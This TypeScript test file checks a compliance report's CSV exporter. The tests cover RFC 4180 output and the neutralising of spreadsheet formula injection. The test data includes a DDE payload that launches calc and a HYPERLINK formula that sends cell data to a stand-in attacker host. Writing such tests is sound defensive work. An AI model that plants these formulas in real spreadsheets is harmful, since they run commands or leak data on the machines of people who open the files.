import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_SECTIONS, reportCsv } from './csv.js';
import type { ComplianceReport } from './model.js';
import { sampleReport } from './sample-report.js';

describe('reportCsv', () => {
  const report: ComplianceReport = sampleReport();

  it.each(CSV_SECTIONS)('%s parses back (RFC 4180) with one row per entry', (section) => {
    const text = reportCsv(report, section);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toContain('\n'); // CRLF line ends only (no cell here holds a line break)
    const rows = parse(text, { relax_column_count: false });
    const entries = {
      overdue: report.overdue,
      groups: report.byGroup,
      owners: report.byOwner,
      severities: report.bySeverity,
      bulletins: report.byBulletin,
      trends: report.trends,
    }[section];
    expect(rows).toHaveLength(entries.length + 1);
  });

  it('overdue: hostile names are neutralised and quoted, values kept', () => {
    const rows = parse(reportCsv(report, 'overdue'));
    expect(rows[0]).toEqual(['machine', 'bulletin', 'title', 'severity', 'due_at', 'days_overdue', 'groups']);
    expect(rows[1]).toEqual([
      "'=cmd|' /C calc'!A0",
      'DSA-1',
      'Fix, "quoted" <b>',
      'critical',
      '2024-06-10T00:00:00.000Z',
      '20',
      'db; web',
    ]);
  });

  it('a hostile bulletin title from a feed reaches the bulletins and overdue sections as text, not a formula', () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const hostile: ComplianceReport = {
      ...report,
      byBulletin: report.byBulletin.map((b) => ({ ...b, title })),
      overdue: report.overdue.map((o) => ({ ...o, title })),
    };
    for (const section of ['bulletins', 'overdue'] as const) {
      const rows = parse(reportCsv(hostile, section));
      const col = rows[0]!.indexOf('title');
      expect(rows.length).toBeGreaterThan(1);
      for (const r of rows.slice(1)) expect(r[col]).toBe(`'${title}`);
    }
  });

  it('groups: null owner and null MTTR are empty cells', () => {
    const rows = parse(reportCsv(report, 'groups'));
    expect(rows[2]).toEqual(['web', '', '3', '1', '33.3', '4', '2', '1', '']);
  });

  it('trends: one column per severity', () => {
    const rows = parse(reportCsv(report, 'trends'));
    expect(rows[0]).toEqual([
      'day',
      'open_findings',
      'critical',
      'important',
      'moderate',
      'low',
      'unknown',
      'machines_with_open',
    ]);
    expect(rows[1]).toEqual(['2024-06-29', '3', '2', '1', '0', '0', '0', '1']);
  });
});
